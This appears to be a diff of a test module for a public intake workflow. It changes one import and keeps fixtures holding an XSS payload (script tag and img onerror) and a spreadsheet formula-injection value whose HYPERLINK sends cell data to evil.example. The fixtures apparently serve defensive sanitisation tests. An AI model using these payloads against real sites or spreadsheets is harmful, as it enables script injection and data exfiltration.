@@ -14,7 +14,7 @@ from sqlalchemy import select
 from api.users import add_user
 from api.workflow.models import Intake
 from tests.public.conftest import PublicWorld
-from tests.public.site import receipt_of
+from tests.public.resident import receipt_of
 
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
